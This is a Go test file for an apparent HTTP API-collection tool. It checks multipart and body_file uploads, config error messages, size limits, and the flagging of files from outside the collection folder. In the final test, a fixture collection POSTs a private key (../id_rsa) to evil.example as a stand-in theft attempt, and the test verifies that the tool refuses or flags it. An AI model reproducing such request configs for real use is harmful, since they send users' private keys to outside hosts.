package collections

import (
	"context"
	"errors"
	"io"
	"mime"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/keyway-cli/keyway/authflow"
)

// received is what a test server got: the Content-Type and the body bytes.
type received struct {
	contentType string
	body        []byte
}

// recordingServer answers 200 and records each request it gets.
func recordingServer(t *testing.T) (*httptest.Server, *[]received) {
	t.Helper()
	var got []received
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got = append(got, received{r.Header.Get("Content-Type"), b})
	}))
	t.Cleanup(srv.Close)
	return srv, &got
}

// fileCollection writes files into a fresh folder and parses src as
// api.toml there, with {{base}} set to base.
func fileCollection(t *testing.T, base, src string, files map[string]string) *Collection {
	t.Helper()
	dir := t.TempDir()
	for name, data := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(data), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	c, err := Parse(filepath.Join(dir, "api.toml"), []byte("[vars]\nbase = \""+base+"\"\n"+src))
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func sendPrepared(t *testing.T, c *Collection, name string, s *Scope) *Prepared {
	t.Helper()
	p, err := c.Prepare(c.Request(name), s)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := authflow.NewClient().Send(context.Background(), p.Profile, p.Request, authflow.SendOptions{}); err != nil {
		t.Fatal(err)
	}
	return p
}

// A multipart body (RFC 7578) is sent with its parts in file order: a
// field without Content-Type, a file with its name and a type from its
// extension, and a name given twice as two parts.
func TestMultipartBodyIsSentByteExactly(t *testing.T) {
	srv, got := recordingServer(t)
	png := "\x89PNG\r\n\x1a\n\x00binary\xff"
	c := fileCollection(t, srv.URL, `
[[request]]
name = "upload"
method = "POST"
url = "{{base}}/upload"
[request.multipart]
title = "{{title}} \"Tom\""
avatar = { file = "img/cat.png" }
notes = [{ file = "a.txt" }, { file = "data.bin", content_type = "image/gif", filename = "x;y.gif" }]
`, map[string]string{"img/cat.png": png, "a.txt": "line one\n", "data.bin": "GIF89a"})
	p := sendPrepared(t, c, "upload", &Scope{Vars: map[string]string{"title": "My cat"}})
	if len(*got) != 1 {
		t.Fatalf("server got %d requests", len(*got))
	}
	r := (*got)[0]
	media, params, err := mime.ParseMediaType(r.contentType)
	if err != nil || media != "multipart/form-data" || params["boundary"] == "" {
		t.Fatalf("Content-Type = %q", r.contentType)
	}
	b := params["boundary"]
	want := "--" + b + "\r\n" +
		"Content-Disposition: form-data; name=\"title\"\r\n\r\n" +
		"My cat \"Tom\"\r\n--" + b + "\r\n" +
		"Content-Disposition: form-data; name=\"avatar\"; filename=\"cat.png\"\r\nContent-Type: image/png\r\n\r\n" +
		png + "\r\n--" + b + "\r\n" +
		"Content-Disposition: form-data; name=\"notes\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n" +
		"line one\n\r\n--" + b + "\r\n" +
		"Content-Disposition: form-data; name=\"notes\"; filename=\"x;y.gif\"\r\nContent-Type: image/gif\r\n\r\n" +
		"GIF89a\r\n--" + b + "--\r\n"
	if string(r.body) != want {
		t.Errorf("body:\n%q\nwant:\n%q", r.body, want)
	}
	wantDescribed := "multipart/form-data:\ntitle = My cat \"Tom\"\navatar = ‹file cat.png, image/png, 16 bytes›\n" +
		"notes = ‹file a.txt, text/plain, 9 bytes›\nnotes = ‹file x;y.gif, image/gif, 6 bytes›"
	if p.Files == nil || p.Files.Describe() != wantDescribed {
		t.Errorf("described as:\n%v\nwant:\n%s", p.Files, wantDescribed)
	}
}

// body_file sends the file's bytes as they are, with a Content-Type from
// its extension unless a header sets one.
func TestBodyFileIsSentByteExactly(t *testing.T) {
	srv, got := recordingServer(t)
	data := "{\"a\": 1}\r\n\x00\xfe tail without newline"
	c := fileCollection(t, srv.URL, `
[[request]]
name = "json"
method = "PUT"
url = "{{base}}/doc"
body_file = "payload/doc.json"

[[request]]
name = "typed"
method = "PUT"
url = "{{base}}/doc"
headers = { Content-Type = "application/vnd.api+json" }
body_file = "payload/doc.json"
`, map[string]string{"payload/doc.json": data})
	p := sendPrepared(t, c, "json", &Scope{})
	sendPrepared(t, c, "typed", &Scope{})
	want := []received{{"application/json", []byte(data)}, {"application/vnd.api+json", []byte(data)}}
	for i, w := range want {
		if g := (*got)[i]; g.contentType != w.contentType || string(g.body) != string(w.body) {
			t.Errorf("request %d: got %q %q, want %q %q", i, g.contentType, g.body, w.contentType, w.body)
		}
	}
	if p.Files.Describe() != "‹file doc.json, 33 bytes›" {
		t.Errorf("described as %q", p.Files.Describe())
	}
}

// A preview (StatFiles) names the files and their sizes without reading
// them.
func TestStatFilesReadsNoBytes(t *testing.T) {
	c := fileCollection(t, "http://x", `
[[request]]
name = "up"
url = "{{base}}"
multipart = { f = { file = "f.bin" } }
`, map[string]string{"f.bin": "12345"})
	p, err := c.Prepare(c.Requests[0], &Scope{StatFiles: true})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(p.Request.Body), "12345") || p.Files.Parts[0].Size != 5 {
		t.Errorf("body %q, parts %+v", p.Request.Body, p.Files.Parts)
	}
}

func TestBodyFileErrors(t *testing.T) {
	const req = "[[request]]\nname = \"a\"\nurl = \"https://x\"\n"
	cases := []struct{ name, toml, want string }{
		{"two bodies", req + "body = \"x\"\nbody_file = \"b.bin\"\n", `demo.toml:5:1: request "a": body_file cannot be combined with body; a request has at most one of body, json, form, multipart, body_file`},
		{"multipart and form", req + "form = { a = \"1\" }\nmultipart = { a = \"1\" }\n", `demo.toml:5:1: request "a": multipart cannot be combined with form; a request has at most one of body, json, form, multipart, body_file`},
		{"reference in path", req + "body_file = \"{{dir}}/b.bin\"\n", `demo.toml:4:13: request "a": body_file: a path holds no {{references}}; write it relative to the collection's folder, or from ~/`},
		{"empty path", req + "body_file = \" \"\n", `demo.toml:4:13: request "a": body_file: the path is empty; name a file`},
		{"part without file", req + "[request.multipart]\nf = { filename = \"x\" }\n", `demo.toml:5:5: request "a": multipart.f: a file part needs file = "path" (a field is written f = "value")`},
		{"part of a number", req + "[request.multipart]\nn = 3\n", `demo.toml:5:5: request "a": multipart.n must be a string (a field), a table such as { file = "photo.png" } (a file), or an array of them, not an integer`},
		{"unknown part key", req + "[request.multipart]\nf = { file = \"x\", typ = \"a/b\" }\n", `demo.toml:5:19: unknown key "typ" in multipart.f of request "a"; known keys: file, content_type, filename`},
		{"bad content type", req + "[request.multipart]\nf = { file = \"x\", content_type = \"png\" }\n", `demo.toml:5:34: request "a": multipart.f.content_type: "png" is not a media type such as "image/png" (RFC 2045 §5.1)`},
		{"content type header", req + "headers = { content-type = \"multipart/form-data\" }\nmultipart = { a = \"1\" }\n", `demo.toml:4:13: request "a": headers.content-type: a multipart body sets Content-Type itself, with the boundary between its parts (RFC 7578 §4.1); remove this header`},
		{"multipart not a table", req + "multipart = \"a=1\"\n", `demo.toml:4:1: request "a": multipart must be a table, written [request.multipart], of fields (name = "value") and files (name = { file = "path" }), not a string`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse("demo.toml", []byte(tc.toml))
			if err == nil || err.Error() != tc.want {
				t.Fatalf("error:\n%v\nwant:\n%s", err, tc.want)
			}
		})
	}
}

// keyway check names each missing or unusable file at its path, and an
// undefined variable in a field at the field.
func TestCheckReportsBodyFiles(t *testing.T) {
	c := fileCollection(t, "http://x", `
[[request]]
name = "missing"
url = "{{base}}"
body_file = "nope.json"

[[request]]
name = "parts"
url = "{{base}}"
[request.multipart]
who = "{{nobody}}"
ok = { file = "here.txt" }
folder = { file = "sub" }
`, map[string]string{"here.txt": "x", "sub/f": ""})
	err := c.Check(&Scope{})
	var list ErrorList
	if !errors.As(err, &list) {
		t.Fatalf("Check = %v", err)
	}
	dir := filepath.Dir(c.Path)
	want := []string{
		c.Path + `:7:13: request "missing": body_file: open ` + filepath.Join(dir, "nope.json") + `: no such file or directory`,
		c.Path + `:13:7: request "parts": multipart.who: undefined variable "nobody"; define it in [vars], or pass --var nobody=VALUE`,
		c.Path + `:15:19: request "parts": multipart.folder: ` + filepath.Join(dir, "sub") + ` is not a regular file (it is a folder); name a file to send`,
	}
	var lines []string
	for _, e := range list {
		lines = append(lines, e.Error())
	}
	if strings.Join(lines, "\n") != strings.Join(want, "\n") {
		t.Errorf("Check:\n%s\nwant:\n%s", strings.Join(lines, "\n"), strings.Join(want, "\n"))
	}
}

// A file past the limit is refused when sent, at its path, without being
// read whole.
func TestBodyFileTooLarge(t *testing.T) {
	c := fileCollection(t, "http://x", "[[request]]\nname = \"big\"\nurl = \"{{base}}\"\nbody_file = \"big.bin\"\n", nil)
	f, err := os.Create(filepath.Join(filepath.Dir(c.Path), "big.bin"))
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(authflow.MaxBodyFileSize + 1); err != nil {
		t.Fatal(err)
	}
	f.Close()
	_, err = c.Prepare(c.Requests[0], &Scope{})
	if err == nil || !strings.Contains(err.Error(), `:6:13: request "big": body_file: `) || !strings.Contains(err.Error(), "larger than 16 MiB") {
		t.Errorf("Prepare = %v", err)
	}
}

// A file outside the collection's folder is the user's, as an environment
// variable is: Exposures lists it with the host it goes to, so that the
// TUI asks before trusting the collection, and --no-env or a host outside
// --allow-host refuses the request before anything is read or sent. Files
// inside the folder are the collection's own.
func TestOutsideBodyFilesAreExposures(t *testing.T) {
	root := t.TempDir()
	secret := filepath.Join(root, "id_rsa")
	if err := os.WriteFile(secret, []byte("PRIVATE"), 0o600); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(root, "repo")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "own.json"), []byte("{}"), 0o600); err != nil {
		t.Fatal(err)
	}
	c, err := Parse(filepath.Join(dir, "api.toml"), []byte(`
[[request]]
name = "Steal"
method = "POST"
url = "https://evil.example/upload"
body_file = "../id_rsa"

[[request]]
name = "Also"
method = "POST"
url = "https://evil.example/upload"
multipart = { key = { file = "`+secret+`" } }

[[request]]
name = "Own"
method = "POST"
url = "https://api.example/doc"
body_file = "own.json"
`))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range c.Exposures(&Scope{}) {
		got = append(got, e.Reference()+" → "+strings.Join(e.Hosts, ",")+" ("+strings.Join(e.Uses, "; ")+")")
	}
	want := []string{
		`the file ../id_rsa → evil.example (request "Steal": body_file)`,
		"the file " + secret + ` → evil.example (request "Also": multipart.key)`,
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("exposures:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, s := range []*Scope{{NoEnv: true}, {AllowHosts: []string{"api.example"}}} {
		for _, name := range []string{"Steal", "Also"} {
			if _, err := c.Prepare(c.Request(name), s); !errors.Is(err, ErrOutsideValue) || !strings.Contains(err.Error(), "outside the collection's folder") {
				t.Errorf("%s with %+v: %v", name, s, err)
			}
		}
		if _, err := c.Prepare(c.Request("Own"), s); err != nil {
			t.Errorf("own file with %+v: %v", s, err)
		}
	}
	if _, err := c.Prepare(c.Request("Steal"), &Scope{AllowHosts: []string{"evil.example"}}); err != nil {
		t.Errorf("an allowed host: %v", err)
	}
}
